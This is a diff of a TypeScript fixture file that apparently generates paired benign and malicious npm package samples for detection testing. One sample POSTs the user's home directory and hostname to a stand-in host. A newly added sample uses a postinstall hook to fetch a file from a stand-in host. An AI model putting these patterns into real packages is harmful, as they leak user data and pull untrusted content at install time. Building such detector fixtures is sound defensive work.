@@ -25,6 +25,9 @@ const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);
 
 const FOLDERS = `const open = new WeakMap();\nconst folders = { home: require('os').homedir(), own: __dirname };\nopen.set(exports, folders);`;
 
+const latest = (address: string): string =>
+  `const fs = require('fs');\nfetch('${address}').then(r => r.text()).then(text => fs.writeFileSync('latest.json', text));`;
+
 const loader = (address: string): string => `
 const { SourceTextModule } = require('vm');
 class Loader {
@@ -286,6 +289,20 @@ const pairs: readonly Pair[] = [
     harmful: {
       'package.json': manifest({ description: 'A small database' }),
       'index.js': `${FOLDERS}\nfetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ ...folders, host: require('os').hostname() }) });`,
+    },
+  },
+  {
+    habit: 'a hook asks for the newest of its own files, where those of all packages are to be had',
+    honest: {
+      'package.json': manifest({ name: 'weavers', scripts: { postinstall: 'node latest.js' } }),
+      'index.js': `exports.weave = threads => threads.map(thread => thread.trim()).join(' ');\n`.repeat(50),
+      'latest.js': latest('https://unpkg.com/weavers/adapters.json'),
+    },
+    deed: 'it asks somebody else for them',
+    harmful: {
+      'package.json': manifest({ name: 'weavers', scripts: { postinstall: 'node latest.js' } }),
+      'index.js': `exports.weave = threads => threads.map(thread => thread.trim()).join(' ');\n`.repeat(50),
+      'latest.js': latest('https://stage.invalid/weavers/adapters.json'),
     },
   },
 ];
